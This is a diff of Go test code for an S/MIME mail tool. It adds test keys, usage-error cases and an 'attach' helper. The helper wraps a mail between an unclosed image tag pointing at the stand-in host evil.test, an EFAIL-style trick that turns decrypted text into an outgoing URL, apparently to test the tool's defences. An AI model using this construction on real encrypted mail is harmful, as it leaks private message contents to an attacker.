@@ -27,8 +27,9 @@ func TestMain(m *testing.M) {
 }
 
 // TestScript runs testdata/script. Each begins in a folder with ca.pem, the
-// identities in ids (alice.pem with an RSA key, bob.p12 with bob.pass) and
-// those of strangers, and mailseal.toml for example.test.
+// identities in ids (alice.pem with an RSA key, bob.p12 with bob.pass),
+// bob.pem with his certificate, x25519.pem and mlkem.pem of people who only
+// decrypt, those of strangers, and mailseal.toml for example.test.
 func TestScript(t *testing.T) {
 	files := people(t)
 	testscript.Run(t, testscript.Params{
@@ -46,7 +47,7 @@ func TestScript(t *testing.T) {
 			}
 			return nil
 		},
-		Cmds:                map[string]func(*testscript.TestScript, bool, []string){"exits": exits, "crlf": crlf, "sub": sub},
+		Cmds:                map[string]func(*testscript.TestScript, bool, []string){"exits": exits, "crlf": crlf, "sub": sub, "attach": attach},
 		RequireExplicitExec: true,
 		RequireUniqueNames:  true,
 	})
@@ -82,6 +83,9 @@ func makePeople(t *testing.T) map[string][]byte {
 		"host.pem":      testpki.PEM(t, p.Host("mx.example.test", ca.P256)),
 		"quinn.pem":     testpki.PEM(t, quinn),
 		"mldsa-ca.pem":  testpki.CertPEM(quantumCA),
+		"bob.pem":       testpki.CertPEM(bob.Certificate),
+		"x25519.pem":    testpki.PairPEM(t, p.X25519("xavier@partner.test")),
+		"mlkem.pem":     testpki.PairPEM(t, p.MLKEM768("mallika@partner.test")),
 		"bare.pem":      testpki.KeyPEM(t, alice.Key),
 		"mailseal.toml": []byte("authserv_id = \"mx.example.test\"\nlocal_domains = [\"example.test\"]\nstate = \"state\"\n\n[milter]\nsocket = \"unix:milter.sock\"\n\n[smime]\nidentities = \"ids\"\ntrust = [\"ca.pem\"]\n"),
 		"plain.eml":     []byte("From: Alice <alice@example.test>\nTo: bob@partner.test\nSubject: hello\nDate: Thu, 1 Oct 2026 12:00:00 +0900\nMessage-ID: <1@example.test>\n\nHello Bob,\n\nFrom here to there: caf\u00e9 and trailing blanks  \n.\n"),
@@ -132,6 +136,18 @@ func sub(ts *testscript.TestScript, neg bool, args []string) {
 	ts.Check(os.WriteFile(ts.MkAbs(args[1]), []byte(strings.Replace(text, args[2], strings.ReplaceAll(args[3], `\n`, "\n"), 1)), 0o600))
 }
 
+// attach FILE NEW writes a mail that has the mail in FILE as a part between texts.
+func attach(ts *testscript.TestScript, neg bool, args []string) {
+	if neg || len(args) != 2 {
+		ts.Fatalf("usage: attach FILE NEW")
+	}
+	head, body, _ := strings.Cut(ts.ReadFile(args[0]), "\n\n")
+	at := strings.Index(head, "Content-Type:")
+	mail := "From: alice@example.test\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\n<img src=\"http://evil.test/\n--b\n" +
+		head[at:] + "\n\n" + body + "\n--b\n\n\">\n--b--\n"
+	ts.Check(os.WriteFile(ts.MkAbs(args[1]), []byte(mail), 0o600))
+}
+
 // call runs a command within the test's process.
 func call(stdin string, args ...string) (stdout, stderr string, status int) {
 	var out, errs bytes.Buffer
@@ -166,6 +182,8 @@ func TestUsage(t *testing.T) {
 		{"verify -crl x", verifyCannot, "mailseal verify: no flag -crl; see mailseal verify -h\n"},
 		{"verify -at today", verifyCannot, "mailseal verify: -at \"today\": want a time of RFC 3339, as 2026-10-01T12:00:00Z\n"},
 		{"verify -ca absent.pem", verifyCannot, "mailseal verify: stat absent.pem: no such file or directory\n"},
+		{"encrypt", exUsage, "mailseal encrypt: nobody to encrypt to: give -to or -password-file; see mailseal encrypt -h\n"},
+		{"decrypt -to x", decryptCannot, "mailseal decrypt: no flag -to; see mailseal decrypt -h\n"},
 		{"check -config absent.toml", exConfig, "mailseal check: open absent.toml: no such file or directory; write it, or name another file with -config\n"},
 	} {
 		t.Run(tt.args, func(t *testing.T) {
